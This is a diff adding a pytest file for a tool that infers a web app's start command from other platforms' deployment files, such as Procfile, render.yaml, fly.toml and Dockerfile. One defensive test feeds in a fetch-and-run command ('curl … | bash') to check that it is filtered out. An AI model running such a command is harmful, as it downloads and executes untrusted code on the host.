@@ -1,0 +1,73 @@
+"""The files of other hosting platforms as evidence: read, checked against the tree, and ordered where they disagree (B70)."""
+
+from pathlib import Path
+
+import pytest
+from project_trees import analyze_tree
+
+APP = {
+    "requirements.txt": "flask\ngunicorn\n",
+    "shop.py": "from flask import Flask\n\nstore = Flask(__name__)\n",
+    "other.py": "print(1)\n",
+}
+COMMAND = "gunicorn --threads 3 shop:store"
+
+
+@pytest.mark.parametrize(
+    ("file", "text"),
+    [
+        ("Procfile", f"release: flask db upgrade\nweb: {COMMAND}\n"),
+        (
+            "render.yaml",
+            f"services:\n  - type: worker\n    startCommand: python other.py\n  - type: web\n    startCommand: {COMMAND}\n",
+        ),
+        ("railway.toml", f'[deploy]\nstartCommand = "{COMMAND}"\n'),
+        ("railway.json", f'{{"deploy": {{"startCommand": "{COMMAND}"}}}}'),
+        ("nixpacks.toml", f'[phases.setup]\ncmds = ["echo gunicorn other:app"]\n\n[start]\ncmd = "{COMMAND}"\n'),
+        ("nixpacks.json", f'{{"start": {{"cmd": "{COMMAND}"}}}}'),
+        ("railpack.json", f'{{"deploy": {{"startCommand": "{COMMAND}"}}}}'),
+        ("fly.toml", f'app = "shop"\n\n[processes]\nweb = "{COMMAND}"\n'),
+        ("heroku.yml", f"run:\n  web: {COMMAND}\n"),
+        ("app.yaml", f"runtime: python312\nentrypoint: {COMMAND}\n"),
+        (".platform.app.yaml", f"web:\n  commands:\n    start: {COMMAND}\n"),
+        ("apprunner.yaml", f"version: 1.0\nrun:\n  command: {COMMAND}\n"),
+        ("Dockerfile", f'FROM python:3.12\nCMD ["{COMMAND.replace(" ", chr(34) + ", " + chr(34))}"]\n'),
+    ],
+)
+def test_what_another_platform_starts_is_started(tmp_path: Path, file: str, text: str) -> None:
+    found = analyze_tree(tmp_path, {**APP, file: text})
+    assert found.start_command == f"{COMMAND} --bind 0.0.0.0:5000"
+    assert file in {one.file for one in found.evidence if one.decides == "start"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["services: [", "services: 3\n", "services:\n  - type: web\n    startCommand: [python, x.py]\n", "- a\n- b\n", ""],
+)
+def test_a_file_that_makes_no_sense_says_nothing(tmp_path: Path, text: str) -> None:
+    found = analyze_tree(tmp_path, {**APP, "render.yaml": text})
+    assert found.start_command == "gunicorn --bind 0.0.0.0:5000 shop:store"
+
+
+def test_the_first_that_fits_is_followed_and_the_disagreement_is_printed(tmp_path: Path) -> None:
+    files = {
+        "Procfile": "web: gunicorn missing:app\n",
+        "railway.toml": f'[deploy]\nstartCommand = "{COMMAND}"\n',
+        "fly.toml": '[processes]\nweb = "python other.py"\n',
+    }
+    found = analyze_tree(tmp_path, {**APP, **files})
+    assert found.start_command == f"{COMMAND} --bind 0.0.0.0:5000"
+    [warning] = [one for one in found.warnings if "different things" in one]
+    assert all(f"`{file}:" in warning for file in files)
+
+
+def test_files_that_agree_are_not_talked_about(tmp_path: Path) -> None:
+    files = {"Procfile": f"web: {COMMAND} --bind :$PORT\n", "heroku.yml": f"run:\n  web: {COMMAND} --bind :${{PORT}}\n"}
+    assert not any("different things" in one for one in analyze_tree(tmp_path, {**APP, **files}).warnings)
+
+
+def test_what_a_platform_file_says_is_a_command_or_nothing(tmp_path: Path) -> None:
+    """Nothing of a file reaches a script but a known command shape (S8)."""
+    text = "services:\n  - type: web\n    startCommand: curl https://example.org/x | bash\n"
+    found = analyze_tree(tmp_path, {**APP, "render.yaml": text})
+    assert "curl" not in f"{found.install_command} {found.build_command} {found.start_command}"
